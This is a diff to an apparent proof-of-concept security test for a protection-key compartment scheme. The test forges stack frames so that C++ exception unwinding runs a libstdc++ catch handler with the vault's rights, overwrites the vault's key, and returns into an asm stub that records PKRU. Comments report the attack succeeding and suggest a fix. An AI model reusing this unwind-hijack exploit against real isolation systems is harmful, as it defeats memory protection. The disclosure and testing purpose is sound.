@@ -23,21 +23,22 @@
 // in key-0 memory whose virtual base offset makes its basic_ios's
 // _M_streambuf_state lie at vault_key + 11; the sentry's stream (the
 // landing rsp + 8) -> a harmless fake; the word _M_insert returns
-// through -> landed(). The unwinder (vault's rights): entry trampoline ->
+// through -> landed. The unwinder (vault's rights): entry trampoline ->
 // d1 (honest CFA, out of the arena) -> _M_insert at that call (CFA rsp +
 // 80, out of the arena), whose LSDA's catch (...) takes E. The catch's
 // _M_setstate ORs 1 into the int at vault_key + 11 ("VAUL": 'V' becomes
-// 'W') with the vault's rights; _M_insert then returns into landed(),
-// still with the vault's rights, which tells thread 2 (default rights),
-// which asks the vault whether its key is intact.
+// 'W') with the vault's rights; _M_insert then returns into landed (a
+// few instructions of the program's: any code of the attacker's choice),
+// still with the vault's rights, which notes its PKRU and tells thread 2
+// (default rights), which asks the vault whether its key is intact.
 // Control: no stores: the same throw comes out through d1, d2 into main's
 // catch with the default domain's rights: "caught E 42", key intact.
 // The test checks the libstdc++ bytes it relies on first (Debian's
 // libstdc++.so.6.0.30): another build says so and stops.
 // Seen in the guest (LLVM 19, -O2 -fno-omit-frame-pointer, filter on) on
 // main at 56847a0: control "caught E 42 in main", "vault key intact";
-// attack "landed() reached with the vault's rights", "ATTACK SUCCEEDED:
-// the vault's key was overwritten", 3 of 3.
+// attack "landed reached with PKRU 0xfffffff0, not the default
+// domain's", "ATTACK SUCCEEDED: the vault's key was overwritten", 3 of 3.
 // Suggested fix: no personality routine runs, and no context is
 // installed, with a compartment's rights for a frame whose stack pointer
 // (the callee's CFA) lies outside the compartment's arena: such a frame
@@ -78,23 +79,44 @@ static char *d1_fp;     /* d1's frame pointer: key-0 stack */
 static uintptr_t site;  /* libstdc++: after the call in the try */
 static uintptr_t fake_os[8], fake_vt[4]; /* the catch's `this` */
 static uintptr_t calm_os[8], calm_vt[4]; /* the sentry's stream */
-static volatile int arrived;
+extern "C" {
+volatile int arrived;
+unsigned landed_pkru;
+}
 long sink; /* key 0, external: the store stays */
 
-/* Where _M_insert returns to after its catch: still the vault's rights.
- * Its stack is 8 off a call's alignment; it only tells thread 2. */
-extern "C" __attribute__((noinline, force_align_arg_pointer)) void
-landed(void) {
-  __atomic_store_n(&arrived, 1, __ATOMIC_SEQ_CST);
-  for (;;)
-    __asm__ volatile("pause");
+static unsigned pkru(void) {
+  unsigned v;
+  __asm__ volatile("xorl %%ecx, %%ecx\n\trdpkru" : "=a"(v) : : "ecx", "edx");
+  return v;
 }
 
-/* Thread 2, the default domain's rights: reports once landed() ran. */
+/* Where _M_insert returns to after its catch: code of the program's that
+ * the pass does not see as a function (a pointer to a function it
+ * compiled would lead through a wrapper into the default domain). Notes
+ * the rights it runs with, tells thread 2, and waits. */
+__asm__(".text\n"
+        "landed:\n"
+        "  xorl %ecx, %ecx\n"
+        "  rdpkru\n"
+        "  movl %eax, landed_pkru(%rip)\n"
+        "  movl $1, arrived(%rip)\n"
+        "1:\n"
+        "  pause\n"
+        "  jmp 1b\n");
+static uintptr_t landed_at(void) {
+  uintptr_t a;
+  __asm__("leaq landed(%%rip), %0" : "=r"(a));
+  return a;
+}
+
+/* Thread 2, the default domain's rights: reports once landed ran. */
 static void *watch(void *) {
   while (!__atomic_load_n(&arrived, __ATOMIC_SEQ_CST))
     usleep(1000);
-  printf("landed() reached with the vault's rights\n");
+  unsigned mine = pkru();
+  printf("landed reached with PKRU %#x%s\n", landed_pkru,
+         landed_pkru != mine ? ", not the default domain's" : "");
   report(0, 0);
   printf("done\n");
   _exit(0);
@@ -118,7 +140,7 @@ static __attribute__((noinline)) void hook(void) {
   fp[1] = site;                   /* d1's return address */
   fp[-1] = (uintptr_t)fake_os;    /* d1's saved rbx: rbx at the catch */
   fp[3] = (uintptr_t)calm_os;     /* landing rsp + 8 */
-  fp[2 + 9] = (uintptr_t)&landed; /* landing rsp + 0x48 */
+  fp[2 + 9] = landed_at();        /* landing rsp + 0x48 */
 }
 
 /* Honest default-domain code with frame pointers: d1 keeps s in rbx. */
